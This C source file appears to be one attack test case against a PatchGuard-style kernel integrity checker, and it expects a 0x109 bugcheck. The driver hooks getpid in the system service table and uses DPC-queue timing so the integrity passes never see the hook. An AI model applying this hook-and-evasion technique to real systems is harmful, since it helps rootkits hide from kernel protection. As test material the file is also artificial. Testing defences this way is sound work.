/* attack_a141_straddle (A141): sees each random pass before it runs.
 * The tick hook draws a random pass and puts its DPC at the head of the
 * DPC queue, which the tick's interrupt drains on its way out, so no
 * other code runs between the draw and the pass: unless the tick came
 * while a DPC ran, when the queue waits for that DPC to return. This
 * driver's DPC, on a periodic timer every tick, is always that DPC: it
 * hooks getpid in the service table (as attack_a1) while none of
 * PatchGuard's DPCs (its timer's, the random pass's, the housekeeping
 * DPC it rides on; its state found as attack_a27 does) is queued, waits
 * with interrupts enabled for the next tick, looks at the queue, puts the
 * entry back when one of them is there, and returns: every pass reads
 * the table as armed. Its own DPC, queued again by that tick behind
 * them, hooks again. Threads starve (the CPU stays in DPCs); the hook is
 * in the table throughout. Expected: 0x109 type 0xA. */
#include "attack_pg.h"

static uint64_t *table;
static uint64_t original, hook;
static struct pg_state *pgs;
static volatile uint64_t *tick_count;
static struct ktimer timer;
static struct dpc timer_dpc;
static uint64_t rounds, stepped;

static uint64_t hooked_getpid(uint64_t a1, uint64_t a2, uint64_t a3, uint64_t a4, uint64_t a5, uint64_t a6)
{
	return 4242;
}

static bool pg_queued(void)
{
	return pgs->dpc->queued || pgs->extra_dpc->queued || pgs->hk_dpc->queued;
}

static void set_entry(uint64_t v)
{
	if (table[KPP_SYS_GET_PID] != v)
		a_write_protected(&table[KPP_SYS_GET_PID], &v, sizeof v);
}

static void straddle(struct dpc *d, void *ctx)
{
	if (pg_queued())
		return; /* one of them runs after this DPC: stay out */
	set_entry(hook);
	uint64_t t = *tick_count;
	while (*tick_count == t)
		__asm__ volatile("sti; hlt" ::: "memory");
	rounds++;
	if (pg_queued()) {
		set_entry(original);
		stepped++;
	}
}

status_t driver_entry(struct driver_object *drv)
{
	table = a_find_service_table();
	tick_count = a_find_tick_count();
	uint64_t f = a_cli();
	pgs = a_find_pg();
	a_restore(f);
	if (!table || !tick_count || !pgs) {
		printk("attack_a141: service table or PatchGuard's state not found\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	original = table[KPP_SYS_GET_PID];
	hook = (uint64_t)&hooked_getpid;
	dpc_init(&timer_dpc, straddle, NULL);
	timer_init(&timer, &timer_dpc);
	timer_set(&timer, 10000000ull, 10000000ull);
	printk("attack_a141: getpid hooked except while a PatchGuard DPC is queued\n");
	a_patched("attack_a141");
	return KPP_STATUS_SUCCESS;
}
